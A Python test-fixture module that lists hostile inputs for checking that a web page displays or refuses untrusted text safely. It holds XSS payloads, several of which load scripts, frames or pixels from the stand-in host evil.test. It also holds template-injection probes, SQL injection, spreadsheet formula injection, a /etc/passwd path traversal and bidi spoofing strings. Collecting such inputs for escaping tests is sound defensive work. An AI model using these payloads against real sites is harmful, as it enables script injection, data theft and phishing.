"""Texts that somebody could type to make a page do what we did not write: run, load, leave, break, lie, or overflow.

Each is shown letter by letter, or refused; nothing else may ever happen. Those that compute would show 50337.
"""

import base64

COMPUTED = "50337"
SCRIPTS = """
<script>alert(1)</script>
<ScRiPt>alert(1)</sCrIpT>
<script src=//evil.test/x.js></script>
<script/src="https://evil.test/x.js">
<script type=module>import'//evil.test/x.js'</script>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</style><script>alert(1)</script>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
<<script>alert(1)//<</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
"><script>alert(1)</script>
'><script>alert(1)</script>
</main></body></html><script>alert(1)</script>
<noscript><p title="</noscript><script>alert(1)</script>">
<template><script>alert(1)</script></template>
"""
HANDLERS = """
<img src=x onerror=alert(1)>
<img src=x oneonerrorrror=alert(1)>
<img/src='x'/onerror='alert(1)'>
<IMG SRC=x ONERROR="alert(String.fromCharCode(88,83,83))">
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
x" autofocus onfocus=alert(1) x="
`onmouseover=alert(1)
<body onload=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<textarea autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<div onpointerenter=alert(1) style=position:fixed;inset:0>
<p onanimationend=alert(1) class=spin>
<a onclick=alert(1)>click</a>
<x contenteditable onblur=alert(1)>lose focus</x>
<button popovertarget=x>b</button><p popover id=x onbeforetoggle=alert(1)>
"""
DRAWINGS = """
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x">
<svg><foreignObject><iframe src=//evil.test></iframe></foreignObject></svg>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
"""
ELSEWHERE = """
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://%0aalert(1)
data:text/html,<script>alert(1)</script>
vbscript:msgbox(1)
<a href="javascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=//evil.test target=_blank>x</a>
<iframe src=//evil.test></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data=//evil.test></object>
<embed src=//evil.test>
<base href=//evil.test/>
<meta http-equiv=refresh content="0;url=//evil.test">
<link rel=stylesheet href=//evil.test/x.css>
<link rel=prefetch href=//evil.test>
<form action=//evil.test><button>Pay</button>
<button formaction=//evil.test>Pay</button>
<img src=//evil.test/pixel.gif>
<img srcset="//evil.test/x 1x">
<input type=image src=//evil.test/x>
<video poster=//evil.test/x>
https://evil.test/?a=1&b=<b>2</b>
//evil.test
"""
STYLES = """
<style>*{display:none}</style>
<style>@import'//evil.test/x.css';</style>
<p style="background:url(//evil.test/x)">
</style><p style=position:fixed;inset:0>
expression(alert(1))
}*{background:url(//evil.test/x)}
<b>bold</b><h1>Large</h1>
<div class="btn btn-primary">Release Payment</div>
</p></div></main><footer>over</footer>
<plaintext>
<!-- never closed
"""
TEMPLATES = """
{{ 7*7191 }}
{{7*7191}}
${7*7191}
#{7*7191}
<%= 7*7191 %>
{% print(7*7191) %}
{%raw%}{{ x }}{%endraw%}
{# gone #}
{{ config.items() }}
{{ ''.__class__.__mro__ }}
{actor} {title} {0} {0.__class__}
{amount:>9999}
%s %d %(title)s %%
$title ${title}
⟦not ours⟧
"""
WRITTEN_OTHERWISE = r"""
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;b&amp;gt;
&quot; onclick=&quot;alert(1)
&nbsp;&shy;&copy
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)
%3Cscript%3Ealert(1)%3C/script%3E
＜script＞alert(1)＜/script＞
"+alert(1)+"
';alert(1);//
\';alert(1);//
"}];alert(1);//
'; DROP TABLE job; --
' OR '1'='1
[x](javascript:alert(1))
![x](//evil.test/x.png)
**bold** _x_ `code` # head
=HYPERLINK("//evil.test","x")
=cmd|' /C calc'!A0
+1+1
-2+3
@SUM(A1)
null
undefined
None
NaN
true
0
[]
{}
../../../etc/passwd
"""
SIGNS = [
    "שלום עולם",
    "مرحبا بالعالم",
    "Z̸̡̢̛̗͑̎͝a̷͖̜̓l̵̡͇̈́g̸̣̀o̶͎͝",
    "👩‍👩‍👧‍👦 🏳️‍🌈 🇳🇿",
    "ﷺ ꧅ 𒐫",
    "zero\u200bwidth\u2060here",
    "soft\u00adhyphen and\u00a0hard blank",
    "𝒜𝓁𝓁 𝓽𝓱𝓮 𝕨𝕒𝕪",
    "ʇxǝʇ uʍop ǝpısdn",
    "İıŞşẞß",
]
# Signs that turn the reading direction: some fields refuse them, others show them; none may let them leave their line.
TURNING = [
    "over\u202eride gnp.exe",
    "em\u202bbed",
    "iso\u2067late",
    "mark \u200f\u200e\u061c end",
]
# Longer than a telephone is wide, without a place to break.
WIDE = ["W" * 29, "i" * 60, "https://evil.test/" + "a" * 60, "_" * 110, "漢" * 55, "&" * 30, "<" * 28]
LONG = [
    "<p>" + "<b>" * 40 + "deep",
    base64.b64encode(b"<script>alert(1)</script>" * 4).decode(),
    "x" * 1000,
]


def texts() -> list[str]:
    """Return all of them, each once."""
    listed = (SCRIPTS, HANDLERS, DRAWINGS, ELSEWHERE, STYLES, TEMPLATES, WRITTEN_OTHERWISE)
    lines = [line for block in listed for line in block.strip().splitlines()]
    return list(dict.fromkeys([*lines, *SIGNS, *TURNING, *WIDE, *LONG]))
